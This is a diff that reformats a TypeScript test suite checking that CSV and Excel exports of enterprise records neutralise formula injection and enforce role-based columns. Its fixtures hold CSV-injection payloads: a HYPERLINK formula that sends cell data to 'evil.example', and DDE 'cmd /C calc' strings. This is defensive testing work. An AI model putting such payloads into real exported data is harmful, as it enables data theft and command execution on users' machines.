@@ -19,14 +19,28 @@ import { randomWorld, type MemEnterprise } from './analytics-world.js';
 import { bearer, mintToken, TEST_JWT_SECRET } from './support/auth.js';
 import { createTestDatabase } from './support/db.js';
 
-const ALL_HEADERS = ['统一社会信用代码', '企业名称', '企业类型', '登记状态', '法定代表人', '行政区划代码', '所在地区', '行业代码',
-  '注册资本（万元）', '成立日期', '风险分值', '风险等级', '风险模型版本', '主要风险因子'];
+const ALL_HEADERS = [
+  '统一社会信用代码',
+  '企业名称',
+  '企业类型',
+  '登记状态',
+  '法定代表人',
+  '行政区划代码',
+  '所在地区',
+  '行业代码',
+  '注册资本（万元）',
+  '成立日期',
+  '风险分值',
+  '风险等级',
+  '风险模型版本',
+  '主要风险因子',
+];
 // values a spreadsheet would run as formulas (OWASP CSV Injection): = + - @, tab, CR
 const HOSTILE = {
   name: '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
-  type: '+cmd|\' /C calc\'!A0',
-  legal: '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  minus: '-2+3+cmd|\' /C calc\'!A0',
+  type: "+cmd|' /C calc'!A0",
+  legal: "@SUM(1+1)*cmd|' /C calc'!A0",
+  minus: "-2+3+cmd|' /C calc'!A0",
   tab: '\t=1+1',
   cr: '\r=1+1',
 };
@@ -49,13 +63,24 @@ describe('enterprise export hardening', () => {
     // six enterprises whose registration texts a hostile source could have sent
     hostile = world.slice(0, 6).map((e) => e.creditCode);
     const [a, b, c, d, e, f] = hostile;
-    await ds.query(`UPDATE enterprise SET name = $2, type = $3, legal_representative = $4 WHERE credit_code = $1`, [a, HOSTILE.name, HOSTILE.type, HOSTILE.legal]);
+    await ds.query(`UPDATE enterprise SET name = $2, type = $3, legal_representative = $4 WHERE credit_code = $1`, [
+      a,
+      HOSTILE.name,
+      HOSTILE.type,
+      HOSTILE.legal,
+    ]);
     await ds.query(`UPDATE enterprise SET name = $2 WHERE credit_code = $1`, [b, HOSTILE.minus]);
     await ds.query(`UPDATE enterprise SET name = $2 WHERE credit_code = $1`, [c, HOSTILE.tab]);
     await ds.query(`UPDATE enterprise SET name = $2 WHERE credit_code = $1`, [d, HOSTILE.cr]);
     await ds.query(`UPDATE enterprise SET legal_representative = '欧阳测名' WHERE credit_code = ANY($1)`, [[e, f]]);
-    const config = loadConfig({ NODE_ENV: 'test', HUB_DATA_DIR: '.data/test-export', HUB_JWT_SECRET: TEST_JWT_SECRET, HUB_RATE_LIMIT_POINTS: '0',
-      HUB_ANALYTICS_MAX_CONCURRENT: String(MAX_CONCURRENT), HUB_ANALYTICS_QUEUE: '0' });
+    const config = loadConfig({
+      NODE_ENV: 'test',
+      HUB_DATA_DIR: '.data/test-export',
+      HUB_JWT_SECRET: TEST_JWT_SECRET,
+      HUB_RATE_LIMIT_POINTS: '0',
+      HUB_ANALYTICS_MAX_CONCURRENT: String(MAX_CONCURRENT),
+      HUB_ANALYTICS_QUEUE: '0',
+    });
     server = await createHubServer({ ds, config, vault, connectors: new Map(), log: pino({ level: 'silent' }) });
     url = await server.listen(0, '127.0.0.1');
   });
@@ -65,8 +90,13 @@ describe('enterprise export hardening', () => {
     await db?.drop();
   });
 
-  async function csvAs(roles: Parameters<typeof mintToken>[0], where: object = {}): Promise<{ status: number; bytes: Buffer; text: string; rows: string[][] }> {
-    const res = await fetch(`${url}/export/enterprises.csv?where=${encodeURIComponent(JSON.stringify(where))}`, { headers: bearer(await mintToken(roles)) });
+  async function csvAs(
+    roles: Parameters<typeof mintToken>[0],
+    where: object = {},
+  ): Promise<{ status: number; bytes: Buffer; text: string; rows: string[][] }> {
+    const res = await fetch(`${url}/export/enterprises.csv?where=${encodeURIComponent(JSON.stringify(where))}`, {
+      headers: bearer(await mintToken(roles)),
+    });
     const bytes = Buffer.from(await res.arrayBuffer());
     const text = bytes.subarray(3).toString('utf8');
     return { status: res.status, bytes, text, rows: res.status === 200 ? (parse(text, { relax_quotes: false }) as string[][]) : [] };
@@ -122,7 +152,10 @@ describe('enterprise export hardening', () => {
     expect(inspector.rows[0]).toEqual(ALL_HEADERS);
     expect(inspector.text).toContain('欧阳测名');
     // the Excel file follows the same rule
-    for (const [roles, hasName] of [[['analyst'], false], [['inspector'], true]] as const) {
+    for (const [roles, hasName] of [
+      [['analyst'], false],
+      [['inspector'], true],
+    ] as const) {
       const res = await fetch(`${url}/export/enterprises.xlsx`, { headers: bearer(await mintToken([...roles])) });
       expect(res.status).toBe(200);
       const wb = new ExcelJS.Workbook();
@@ -130,14 +163,19 @@ describe('enterprise export hardening', () => {
       const headers = (wb.worksheets[0]!.getRow(1).values as unknown[]).slice(1);
       expect(headers.includes('法定代表人')).toBe(hasName);
       let names = 0;
-      wb.worksheets[0]!.eachRow((row) => row.eachCell((c) => { if (c.value === '欧阳测名') names++; }));
+      wb.worksheets[0]!.eachRow((row) =>
+        row.eachCell((c) => {
+          if (c.value === '欧阳测名') names++;
+        }),
+      );
       expect(names).toBe(hasName ? 2 : 0);
     }
   });
 
   it('exports Excel: one sheet, Chinese headers, codes as text cells formatted "@", numbers as numbers', async () => {
-    const res = await fetch(`${url}/export/enterprises.xlsx?orderBy=${encodeURIComponent(JSON.stringify({ field: 'CREDIT_CODE' }))}`,
-      { headers: bearer(await mintToken(['inspector'])) });
+    const res = await fetch(`${url}/export/enterprises.xlsx?orderBy=${encodeURIComponent(JSON.stringify({ field: 'CREDIT_CODE' }))}`, {
+      headers: bearer(await mintToken(['inspector'])),
+    });
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
     expect(res.headers.get('content-disposition')).toContain(encodeURIComponent('企业名单.xlsx'));
@@ -167,7 +205,8 @@ describe('enterprise export hardening', () => {
       withStatementTimeout(ds, 15_000, server.services.analytics.slots, async () => {
         entered++;
         await gate;
-      }));
+      }),
+    );
     await expect.poll(() => entered).toBe(MAX_CONCURRENT);
     try {
       for (const path of ['/export/enterprises.csv', '/export/enterprises.xlsx']) {
@@ -191,8 +230,12 @@ describe('enterprise export hardening', () => {
     const officer = await fetch(`${url}/export/enterprises.xlsx`, { headers: bearer(await mintToken(['licensing_officer'])) });
     expect(officer.status).toBe(403);
     expect(((await officer.json()) as { error: { code: string } }).error.code).toBe('FORBIDDEN');
-    const bad = await fetch(`${url}/export/enterprises.xlsx?where=${encodeURIComponent('{"nope":{"_eq":1}}')}`, { headers: bearer(await mintToken(['analyst'])) });
+    const bad = await fetch(`${url}/export/enterprises.xlsx?where=${encodeURIComponent('{"nope":{"_eq":1}}')}`, {
+      headers: bearer(await mintToken(['analyst'])),
+    });
     expect(bad.status).toBe(400);
-    expect(await bad.json()).toMatchObject({ error: { code: 'BAD_USER_INPUT', field: 'where.nope', messageZh: expect.stringMatching(/[\u4e00-\u9fff]/) } });
+    expect(await bad.json()).toMatchObject({
+      error: { code: 'BAD_USER_INPUT', field: 'where.nope', messageZh: expect.stringMatching(/[\u4e00-\u9fff]/) },
+    });
   });
 });
